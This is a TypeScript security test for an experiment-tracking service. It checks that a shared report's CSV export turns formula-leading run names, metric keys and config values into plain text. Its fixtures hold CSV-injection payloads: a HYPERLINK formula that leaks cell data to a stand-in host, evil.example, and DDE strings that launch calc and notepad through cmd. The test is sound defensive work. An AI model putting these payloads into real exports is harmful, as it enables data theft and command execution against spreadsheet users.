import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, expect, test } from "vitest";
import { reportCsv } from "../../app/_features/reports/report-export.ts";
import type { ReportView } from "../../server/domain/report/report-schema.ts";
import { mintApiKey, signUp, startServer, teamOf, trpc, type SecurityServer } from "./server.ts";

/**
 * A team member names a run, a metric and a config value as spreadsheet formulas; a reader of the
 * team's shared report downloads its CSV. The server stores and serves the text as it came; the
 * export (the code behind the report's "CSV" button) must neutralise every formula-leading cell.
 */
let server: SecurityServer;
beforeAll(async () => {
  server = await startServer();
});
afterAll(async () => server?.stop());

const EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const EVIL_KEY = "@SUM(1+1)*cmd|' /C calc'!A0";
const EVIL_VALUE = "+cmd|' /C notepad'!A0";
const FORMULA = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

test("a shared report's CSV shows formula-leading run names, metric keys and config values as text", async () => {
  const editor = await signUp(server, "csv-editor");
  const teamId = await teamOf(server, editor);
  const ingest = await mintApiKey(server, editor, teamId, "ingest");
  const v1 = (route: string, body: unknown) =>
    fetch(`${server.url}/api/v1${route}`, {
      method: "POST",
      headers: { authorization: `Bearer ${ingest}`, "content-type": "application/json" },
      body: JSON.stringify(body),
    });

  const created = await v1("/runs", {
    project: "Formulas",
    experiment: "injection",
    name: EVIL_NAME,
    config: { note: EVIL_VALUE, width: 8 },
  });
  expect(created.status).toBe(201);
  const { runId } = (await created.json()) as { runId: string };
  const points = [0, 1, 2].flatMap((step) => [
    { key: EVIL_KEY, step, value: 1 / (step + 1) },
    { key: "val/loss", step, value: -0.5 * step },
  ]);
  expect((await v1(`/runs/${runId}/points`, { points })).status).toBe(200);

  const projects = await trpc<{ items: { id: string; name: string }[] }>(server, editor, "project.list", { teamId });
  const projectId = projects.data?.items.find((project) => project.name === "Formulas")?.id;
  expect(projectId).toBeTruthy();
  const report = await trpc<{ id: string }>(
    server,
    editor,
    "report.create",
    {
      projectId,
      title: "Injection",
      body: "",
      runIds: [runId],
      panels: [
        { kind: "curves", metric: EVIL_KEY, x: "step" },
        { kind: "curves", metric: "val/loss", x: "step" },
        { kind: "table", columns: ["note", EVIL_KEY, "val/loss"] },
      ],
    },
    "mutation",
  );
  expect(report.error).toBeUndefined();
  const reportId = report.data!.id;
  expect(
    (await trpc(server, editor, "report.publish", { reportId, mode: "frozen" }, "mutation")).error,
  ).toBeUndefined();
  const link = await trpc<{ token: string }>(server, editor, "report.createLink", { reportId }, "mutation");
  const shared = await trpc<ReportView>(server, null, "sharedReport.view", { token: link.data!.token });
  expect(shared.error).toBeUndefined();

  // The server hands the text back unchanged: neutralising is the export's job, not the store's.
  expect(shared.raw).toContain("HYPERLINK");
  const csv = reportCsv(shared.data!);
  const cells = (parse(csv, { relax_column_count: true }) as string[][]).flat();
  expect(cells).toContain(`'${EVIL_NAME}`);
  expect(cells).toContain(`'${EVIL_KEY}`);
  expect(cells).toContain(`'${EVIL_VALUE}`);
  expect(cells.filter((cell) => FORMULA.test(cell) && !PLAIN_NUMBER.test(cell))).toEqual([]);
  // Negative losses stay numbers a spreadsheet can plot.
  expect(cells).toContain("-0.5");
});
